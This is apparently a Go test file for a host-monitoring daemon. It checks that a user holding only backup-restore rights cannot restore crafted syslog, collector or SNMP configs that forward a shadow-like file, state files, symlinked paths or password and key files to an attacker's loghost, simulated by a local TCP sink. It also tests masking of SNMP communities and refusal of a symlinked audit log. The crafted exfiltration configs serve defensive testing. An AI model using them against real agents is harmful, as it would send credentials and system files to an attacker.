package daemon_test

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"log/slog"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"hostagent/internal/daemon"
	"hostagent/internal/peertest"
	"hostagent/manage/api"
	"hostagent/manage/tlsid"
)

// tcpSink is an attacker's loghost: a real TCP listener that keeps every
// byte it receives.
type tcpSink struct {
	ln  net.Listener
	mu  sync.Mutex
	got strings.Builder
}

func startSink(t *testing.T) *tcpSink {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	s := &tcpSink{ln: ln}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				buf := make([]byte, 4096)
				for {
					n, err := c.Read(buf)
					s.mu.Lock()
					s.got.Write(buf[:n])
					s.mu.Unlock()
					if err != nil {
						return
					}
				}
			}()
		}
	}()
	return s
}

func (s *tcpSink) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.got.String()
}

// remoteSetup starts a daemon with HTTPS on loopback and returns an
// HTTPS client trusting its certificate, and a console doer.
func remoteSetup(t *testing.T, dir string, adjust func(*daemon.Options)) (running, func(user, password string) *httpsClient, func(method, path string, in any) (int, []byte)) {
	t.Helper()
	r := start(t, dir, func(o *daemon.Options) {
		o.HTTPSListen = "127.0.0.1:0"
		if adjust != nil {
			adjust(o)
		}
	})
	console := consoleClient(r.sock)
	consoleDo := func(method, path string, in any) (int, []byte) { return call(t, console, method, path, in) }
	return r, httpsLogin(t, dir, r.daemon), consoleDo
}

// httpsLogin returns what logs a user in over HTTPS to d, whose state
// directory is in dir, trusting only its certificate.
func httpsLogin(t *testing.T, dir string, d *daemon.Daemon) func(user, password string) *httpsClient {
	t.Helper()
	id, err := tlsid.Load(filepath.Join(dir, "state"), "", "", nil)
	if err != nil {
		t.Fatal(err)
	}
	pool := x509.NewCertPool()
	pool.AddCert(id.Leaf)
	return func(user, password string) *httpsClient {
		c := &httpsClient{t: t, base: "https://" + d.HTTPSAddr(),
			http: &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool, ServerName: "localhost"}}}}
		if code, body := c.login(user, password); code != http.StatusOK {
			t.Fatalf("login %s: %d %s", user, code, body)
		}
		return c
	}
}

func mustConsole(t *testing.T, do func(string, string, any) (int, []byte), method, path string, in any) {
	t.Helper()
	if code, body := do(method, path, in); code != http.StatusOK {
		t.Fatalf("console %s %s: %d %s", method, path, code, body)
	}
}

// TestRestoreCannotNamePathsOverTLS is the attack of issue 10: a holder of
// Host.Config.Backup alone restores, over real TLS, a backup whose
// syslog.toml forwards a shadow-like file, the state directory and a link
// out of the log root to a loghost of the attacker's; whose
// collectors.toml points the libvirt socket elsewhere; whose snmp.toml
// adds a MIB directory. Each is refused, naming the file, the setting,
// the value and the log roots; nothing changes and the attacker's loghost
// receives nothing. A glob inside the log root does restore, and the
// console may still name any path.
func TestRestoreCannotNamePathsOverTLS(t *testing.T) {
	dir, secrets := t.TempDir(), t.TempDir() // secrets stands for /etc
	logs := filepath.Join(dir, "log")
	shadow := filepath.Join(secrets, "shadow")
	writeFile(t, shadow, "root:SECRET-HASH:19000:0:99999:7:::\n")
	writeFile(t, filepath.Join(logs, "app.log"), "an allowed line\n")
	if err := os.Symlink(secrets, filepath.Join(logs, "etc")); err != nil {
		t.Fatal(err)
	}
	// The log root is the whole test directory: the state and config
	// directories lie under it, and are refused all the same.
	r, login, consoleDo := remoteSetup(t, dir, func(o *daemon.Options) { o.LogRoots = []string{dir} })
	mustConsole(t, consoleDo, "POST", api.PathRoles, api.Role{Name: "BackupOperator", Privileges: []string{"Host.Config.Backup", "System.Read"}})
	mustConsole(t, consoleDo, "POST", api.PathUsers, api.NewUser{Name: "mallory", Password: "mallory-passw0rd", Role: "BackupOperator"})
	c := login("mallory", "mallory-passw0rd")
	sink := startSink(t)
	loghost := "tcp://" + sink.ln.Addr().String()

	// The attacker starts from the backup it may download, as it would.
	code, body, _ := c.do("GET", api.PathBackup, nil)
	if code != http.StatusOK {
		t.Fatalf("download: %d %s", code, body)
	}
	var backup map[string]any
	if err := json.Unmarshal([]byte(body), &backup); err != nil {
		t.Fatal(err)
	}
	crafted := func(key, text string) map[string]any {
		files := map[string]any{}
		for k, v := range backup["files"].(map[string]any) {
			files[k] = v
		}
		files[key] = text
		b := map[string]any{}
		for k, v := range backup {
			b[k] = v
		}
		b["files"] = files
		return b
	}
	etc := filepath.Join(dir, "etc")
	snapshot := func() map[string]string {
		m := map[string]string{}
		for _, name := range []string{daemon.SNMPFile, daemon.CollectorsFile, daemon.SyslogFile} {
			data, _ := os.ReadFile(filepath.Join(etc, name))
			m[name] = string(data)
		}
		return m
	}
	before := snapshot()
	syslogBefore := r.daemon.SyslogState().Config

	for _, tc := range []struct {
		name, key, text string
		want            []string
	}{
		{"shadow, state dir and a link out of the log root", "config/" + daemon.SyslogFile,
			fmt.Sprintf("loghosts = [%q]\n[[files]]\nglob = %q\n[[files]]\nglob = %q\n[[files]]\nglob = %q\n[[files]]\nglob = %q\n",
				loghost, shadow, filepath.Join(dir, "state", "*"), filepath.Join(logs, "etc", "*"), filepath.Join(logs, "..", "etc", "*.toml")),
			[]string{daemon.SyslogFile, "files[0].glob", shadow, "files[1].glob", "files[2].glob", "files[3].glob", "log roots (" + dir}},
		{"follow_symlinks and a client key", "config/" + daemon.SyslogFile,
			fmt.Sprintf("loghosts = [%q]\nfollow_symlinks = true\n[loghost_options.%q]\nkey_file = %q\n", loghost, loghost, shadow),
			[]string{"follow_symlinks", "key_file", shadow, "console"}},
		{"a log bus's password, credentials and NKey files", "config/" + daemon.SyslogFile,
			fmt.Sprintf("loghosts = [\"kafka://127.0.0.1:1/t\", \"nats://127.0.0.1:1/s\"]\n"+
				"[loghost_options.\"kafka://127.0.0.1:1/t\"]\nsasl = \"plain\"\nusername = \"u\"\npassword_file = %q\n"+
				"[loghost_options.\"nats://127.0.0.1:1/s\"]\nnkey_file = %q\n", shadow, shadow),
			[]string{"password_file", "nkey_file", shadow, "console"}},
		{"libvirt socket and URI", "config/" + daemon.CollectorsFile,
			fmt.Sprintf("[vms]\nenabled = false\nsocket = %q\nuri = \"test:///%s\"\n", filepath.Join(secrets, "sock"), shadow),
			[]string{daemon.CollectorsFile, "vms.socket", filepath.Join(secrets, "sock"), "vms.uri", "console"}},
		{"MIB directory", "config/" + daemon.SNMPFile,
			fmt.Sprintf("mib_dirs = [%q]\n", secrets),
			[]string{daemon.SNMPFile, "mib_dirs[0]", secrets, "console"}},
		{"AgentX socket", "config/" + daemon.SNMPFile,
			fmt.Sprintf("agentx_socket = %q\n", filepath.Join(secrets, "agentx")),
			[]string{daemon.SNMPFile, "agentx_socket", filepath.Join(secrets, "agentx"), "console"}},
	} {
		code, body, _ := c.do("PUT", api.PathBackup, crafted(tc.key, tc.text))
		if code != http.StatusForbidden {
			t.Errorf("%s: restore answered %d %s, want 403", tc.name, code, body)
		}
		for _, w := range tc.want {
			if !strings.Contains(body, w) {
				t.Errorf("%s: the refusal does not name %q: %s", tc.name, w, body)
			}
		}
		if after := snapshot(); fmt.Sprint(after) != fmt.Sprint(before) {
			t.Errorf("%s: a refused restore changed the files:\n%v\nwas\n%v", tc.name, after, before)
		}
		if got := r.daemon.SyslogState().Config; fmt.Sprint(got) != fmt.Sprint(syslogBefore) {
			t.Errorf("%s: the forwarder's configuration changed: %+v", tc.name, got)
		}
	}
	if strings.Contains(r.log.String(), secrets+"]") {
		t.Errorf("a refused MIB directory was loaded:\n%s", r.log)
	}

	// Within the log root, the same attacker's restore goes through: the
	// line of app.log reaches the loghost, and nothing of the secret
	// ever did (it would have come first). Logged in again: a restore
	// that went through ends every session.
	c = login("mallory", "mallory-passw0rd")
	code, body, _ = c.do("PUT", api.PathBackup, crafted("config/"+daemon.SyslogFile,
		fmt.Sprintf("loghosts = [%q]\n[[files]]\nglob = %q\n", loghost, filepath.Join(logs, "*.log"))))
	if code != http.StatusOK {
		t.Fatalf("restore within the log root: %d %s", code, body)
	}
	waitFor(t, "the allowed line at the loghost", func() bool { return strings.Contains(sink.String(), "an allowed line") })
	if strings.Contains(sink.String(), "SECRET") {
		t.Errorf("the secret reached the attacker's loghost: %q", sink.String())
	}

	// The console (root) may name any path, as a hand edit may.
	b := crafted("config/"+daemon.SNMPFile, fmt.Sprintf("mib_dirs = [%q]\n", secrets))
	if code, out := consoleDo("PUT", api.PathBackup, b); code != http.StatusOK {
		t.Errorf("console restore of a MIB directory: %d %s", code, out)
	}
}

// TestCommunitiesHiddenFromReadOnly: over TLS a ReadOnly user sees the
// communities, in GET /api/v1/snmp and in /metrics' target labels, as
// ****; a Host.Config.SNMP holder and the console see them.
func TestCommunitiesHiddenFromReadOnly(t *testing.T) {
	dir := t.TempDir()
	_, login, consoleDo := remoteSetup(t, dir, nil)
	// A closed UDP port on loopback: traps are sent, and simply lost.
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	port := pc.LocalAddr().(*net.UDPAddr).Port
	pc.Close()
	enabled := true
	mustConsole(t, consoleDo, "PATCH", api.PathSNMP, api.SNMPPatch{Enabled: &enabled,
		Communities: &[]string{"s3cret-ro"}, Targets: &[]string{fmt.Sprintf("127.0.0.1@%d/t0p-secret", port), fmt.Sprintf("127.0.0.1@%d/other-secret", port)}})
	mustConsole(t, consoleDo, "POST", api.PathUsers, api.NewUser{Name: "reader", Password: "reader-passw0rd", Role: "ReadOnly"})
	mustConsole(t, consoleDo, "POST", api.PathRoles, api.Role{Name: "SNMPAdmin", Privileges: []string{"Host.Config.SNMP", "System.Read"}})
	mustConsole(t, consoleDo, "POST", api.PathUsers, api.NewUser{Name: "snmpadmin", Password: "snmpadmin-passw0rd", Role: "SNMPAdmin"})
	reader, admin := login("reader", "reader-passw0rd"), login("snmpadmin", "snmpadmin-passw0rd")

	get := func(c *httpsClient, path string) string {
		t.Helper()
		code, body, _ := c.do("GET", path, nil)
		if code != http.StatusOK {
			t.Fatalf("GET %s: %d %s", path, code, body)
		}
		return body
	}
	body := get(reader, api.PathSNMP)
	var st api.SNMPState
	if err := json.Unmarshal([]byte(body), &st); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(body, "s3cret") || strings.Contains(body, "t0p-secret") {
		t.Errorf("ReadOnly sees a community: %s", body)
	}
	if fmt.Sprint(st.Config.Communities) != "[****]" || fmt.Sprint(st.Config.Targets) != fmt.Sprintf("[127.0.0.1@%d/**** 127.0.0.1@%d/****]", port, port) ||
		len(st.Targets) != 2 || st.Targets[0].Target != fmt.Sprintf("127.0.0.1@%d/****", port) {
		t.Errorf("ReadOnly's view: %+v", st)
	}
	metrics := get(reader, api.PathMetrics)
	// Two targets that differ only in their community keep a series each.
	if strings.Contains(metrics, "t0p-secret") || strings.Contains(metrics, "other-secret") ||
		!strings.Contains(metrics, fmt.Sprintf(`hostagent_snmp_queue_length{target="127.0.0.1@%d/****"}`, port)) ||
		!strings.Contains(metrics, fmt.Sprintf(`hostagent_snmp_queue_length{target="127.0.0.1@%d/****#2"}`, port)) {
		t.Errorf("ReadOnly's /metrics:\n%s", grepLines(metrics, "hostagent_snmp"))
	}

	for _, who := range []struct {
		name  string
		fetch func(path string) string
	}{
		{"Host.Config.SNMP", func(p string) string { return get(admin, p) }},
		{"console", func(p string) string { _, b := consoleDo("GET", p, nil); return string(b) }},
	} {
		if b := who.fetch(api.PathSNMP); !strings.Contains(b, "s3cret-ro") || !strings.Contains(b, "t0p-secret") {
			t.Errorf("%s does not see the communities: %s", who.name, b)
		}
		if m := who.fetch(api.PathMetrics); !strings.Contains(m, fmt.Sprintf(`target="127.0.0.1@%d/t0p-secret"`, port)) {
			t.Errorf("%s's /metrics:\n%s", who.name, grepLines(m, "hostagent_snmp"))
		}
	}
}

func grepLines(s, word string) string {
	var out []string
	for _, l := range strings.Split(s, "\n") {
		if strings.Contains(l, word) {
			out = append(out, l)
		}
	}
	return strings.Join(out, "\n")
}

// TestAuditLogSymlinkRefused: a symbolic link planted at audit.log (to a
// file root owns) is not written through: the daemon does not start, and
// says why; the file the link names is untouched.
func TestAuditLogSymlinkRefused(t *testing.T) {
	dir := t.TempDir()
	victim := filepath.Join(t.TempDir(), "victim")
	writeFile(t, victim, "untouched\n")
	if err := os.Chmod(victim, 0o644); err != nil {
		t.Fatal(err)
	}
	state := filepath.Join(dir, "state")
	if err := os.MkdirAll(state, 0o750); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(victim, filepath.Join(state, "audit.log")); err != nil {
		t.Fatal(err)
	}
	log := &peertest.Buffer{}
	d := daemon.New(daemon.Options{ConfigDir: filepath.Join(dir, "etc"), StateDir: state, APISocket: filepath.Join(dir, "api.sock"),
		Defaults: testDefaults(t, dir)}, slogTo(log))
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- d.Run(ctx) }()
	var err error
	select {
	case err = <-done:
	case <-d.Ready(): // started: written through the link
		cancel()
		<-done
	}
	cancel()
	if err == nil || !strings.Contains(err.Error(), "symbolic link") || !strings.Contains(err.Error(), "audit.log") {
		t.Errorf("daemon with a link at audit.log: %v", err)
	}
	data, _ := os.ReadFile(victim)
	fi, _ := os.Stat(victim)
	if string(data) != "untouched\n" || fi.Mode().Perm() != 0o644 {
		t.Errorf("written through the link: %q, mode %v", data, fi.Mode().Perm())
	}
}

func slogTo(w *peertest.Buffer) *slog.Logger {
	return slog.New(slog.NewTextHandler(w, &slog.HandlerOptions{Level: slog.LevelDebug}))
}

// TestBusSecretStaysWithItsLoghost: a NATS loghost logs in with a password
// read from a file the console named. Over HTTPS a user allowed to restore
// may restore it as it is, but neither move that password_file to a loghost
// of his own nor keep it with its loghost and turn verification off: each
// is refused naming the setting, and his server never hears the password.
func TestBusSecretStaysWithItsLoghost(t *testing.T) {
	dir := t.TempDir()
	secret := filepath.Join(t.TempDir(), "nats-password")
	writeFile(t, secret, "TOP-SECRET-PASSWORD\n")
	heard := startSink(t) // the attacker's server: whatever a client sends it
	loghost := "nats://127.0.0.1:1/logs"
	body := func(loghost, extra string) string {
		return fmt.Sprintf("loghosts = [%q]\nsocket = \"\"\n[loghost_options.%q]\nusername = \"hostagent\"\npassword_file = %q\n%s",
			loghost, loghost, secret, extra)
	}
	writeFile(t, filepath.Join(dir, "etc", daemon.SyslogFile), body(loghost, ""))
	_, login, consoleDo := remoteSetup(t, dir, nil)
	mustConsole(t, consoleDo, "POST", api.PathRoles, api.Role{Name: "BackupOperator", Privileges: []string{"Host.Config.Backup", "System.Read"}})
	mustConsole(t, consoleDo, "POST", api.PathUsers, api.NewUser{Name: "mallory", Password: "mallory-passw0rd", Role: "BackupOperator"})
	c := login("mallory", "mallory-passw0rd")
	code, raw, _ := c.do("GET", api.PathBackup, nil)
	if code != http.StatusOK {
		t.Fatalf("download: %d %s", code, raw)
	}
	var backup map[string]any
	if err := json.Unmarshal([]byte(raw), &backup); err != nil {
		t.Fatal(err)
	}
	with := func(text string) map[string]any {
		files := map[string]any{}
		for k, v := range backup["files"].(map[string]any) {
			files[k] = v
		}
		files["config/"+daemon.SyslogFile] = text
		b := map[string]any{}
		for k, v := range backup {
			b[k] = v
		}
		b["files"] = files
		return b
	}
	attacker := "nats://" + heard.ln.Addr().String() + "/x"
	for name, text := range map[string]string{
		"moved to another loghost":      body(attacker, ""),
		"kept, verification turned off": body(loghost, "tls = true\nverify = false\n"),
		"kept, beside another loghost":  strings.Replace(body(loghost, ""), fmt.Sprintf("loghosts = [%q]", loghost), fmt.Sprintf("loghosts = [%q, %q]", loghost, attacker), 1) + fmt.Sprintf("[loghost_options.%q]\nusername = \"x\"\npassword_file = %q\n", attacker, secret),
	} {
		code, out, _ := c.do("PUT", api.PathBackup, with(text))
		if code != http.StatusForbidden || !strings.Contains(out, "password_file") || !strings.Contains(out, secret) {
			t.Errorf("%s: restore answered %d %s, want 403 naming password_file and the file", name, code, out)
		}
	}
	// The backup as downloaded restores: the secret stays where it was.
	if code, out, _ := c.do("PUT", api.PathBackup, backup); code != http.StatusOK {
		t.Errorf("restoring the downloaded backup: %d %s", code, out)
	}
	if strings.Contains(heard.String(), "TOP-SECRET") {
		t.Errorf("the password reached the attacker's server: %q", heard.String())
	}
}
